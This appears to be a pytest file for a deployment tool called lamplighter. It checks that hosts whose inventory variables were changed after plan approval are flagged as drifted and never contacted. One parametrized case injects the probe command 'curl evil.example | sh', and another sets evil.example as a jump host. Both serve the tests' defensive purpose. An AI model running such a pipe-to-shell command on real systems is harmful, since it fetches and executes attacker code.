"""Somebody who may write the site's files, but not approve, changes what a signed plan does.

The steps stay as they were signed; the machine that answers, the account, or what is run beside them
does not.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from lamplighter.engine.run import Run
from lamplighter.model.history import replay
from lamplighter.model.show import plan_page
from tests.enginekit import Lab, Make, carry_out, finish, labs, states

PIN = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"


@pytest.fixture
def make(tmp_path: Path) -> Iterator[Make]:
    yield from labs(tmp_path)


def change(lab: Lab, host: str, **values: Any) -> None:
    """Write variables of one host into the inventory."""
    file = lab.path / "hosts.yaml"
    said = yaml.safe_load(file.read_text())
    hosts = said["all"]["hosts"]
    said["all"]["hosts"] = {name: hosts[name] or {} for name in hosts}
    said["all"]["hosts"][host] = {**said["all"]["hosts"][host], **values}
    file.write_text(yaml.safe_dump(said, sort_keys=False))


def approved(lab: Lab, run: Run) -> None:
    run.make_plan(run.survey())
    lab.approve(run)
    assert run.check_gate().passed


@pytest.mark.parametrize(("values", "told"), [
    ({"lamplighter_probes": ["curl evil.example | sh"]}, "lamplighter_probes"),
    ({"ansible_host": "10.9.8.7"}, "10.9.8.7"),
    ({"ansible_user": "root"}, "root@a"),
    ({"ansible_port": 2222}, "ansible_port"),
    ({"lamplighter_ssh_jump": "evil.example"}, "through evil.example"),
    ({"ansible_become": False}, "ansible_become"),
    ({"lamplighter_connect_timeout": 0.5}, "lamplighter_connect_timeout"),
    ({"ansible_ssh_private_key_file": "/tmp/other"}, "ansible_ssh_private_key_file"),
    ({"lamplighter_sudo_password": "file:/tmp/mine"}, "lamplighter_sudo_password"),
])
def test_what_was_changed_is_not_connected_to(make: Make, values: dict[str, Any], told: str) -> None:
    lab = make(["a", "b"], limits={"run_failures": 9, "canary_failures": 9, "wave_percent": 100})
    with lab.run() as run:
        approved(lab, run)
    change(lab, "a", **values)
    asked: list[str] = []

    def connect(host: Any) -> Any:
        asked.append(host.name)
        return lab.fleet.connect(host)

    with lab.run(connect=connect) as run:
        ending = finish(run)
    assert states(ending) == {"a": "drifted", "b": "changed"}
    assert "a" not in asked, "nothing was sent to it"
    message = next(one.message for one in ending.outcomes if one.host == "a")
    assert told in message
    assert "Nothing was sent to it" in message
    assert lab.counts("a") == {}


def test_two_hosts_whose_addresses_were_swapped(make: Make) -> None:
    lab = make(["a", "b"], limits={"run_failures": 9, "canary_failures": 9, "wave_percent": 100})
    with lab.run() as run:
        approved(lab, run)
    change(lab, "a", ansible_host="b")
    change(lab, "b", ansible_host="a")
    with lab.run() as run:
        assert states(finish(run)) == {"a": "drifted", "b": "drifted"}
    assert lab.counts("a") == lab.counts("b") == {}


def test_a_host_that_was_begun_is_not_asked_somewhere_else(make: Make) -> None:
    """The worker died with a step open. Asking another machine would say that it never began."""
    lab = make(["a"])
    with lab.run() as run:
        approved(lab, run)
        plan = run.plan().hosts[0]
        run.journal.record("wave-started", wave=1, hosts=["a"])
        run.journal.intend("a", plan.steps[0], "unit")
    change(lab, "a", ansible_host="b")
    with lab.run() as run:
        assert states(finish(run)) == {"a": "unknown"}
    assert lab.counts("a") == {}


def test_variables_that_nothing_reads_may_change(make: Make) -> None:
    lab = make(["a"])
    with lab.run() as run:
        approved(lab, run)
    change(lab, "a", rack="17", ha_group="x")
    with lab.run() as run:
        assert states(finish(run)) == {"a": "changed"}


def test_the_approver_is_shown_where_it_goes_and_as_whom(make: Make) -> None:
    lab = make(["a"])
    probes = ["systemctl is-active web"]
    change(lab, "a", ansible_host="10.1.2.3", ansible_user="deploy", lamplighter_probes=probes)
    with lab.run() as run:
        plan = run.make_plan(run.survey())
        shown = plan_page(plan, "UTC")
        assert "deploy" in shown
        assert "10.1.2.3" in shown
        assert "systemctl is-active web" in shown
        assert carry_out(lab, run).state == "Completed"
        assert replay(run.ledger.records()).bound["a"].keys() >= {"ansible_host", "lamplighter_probes"}
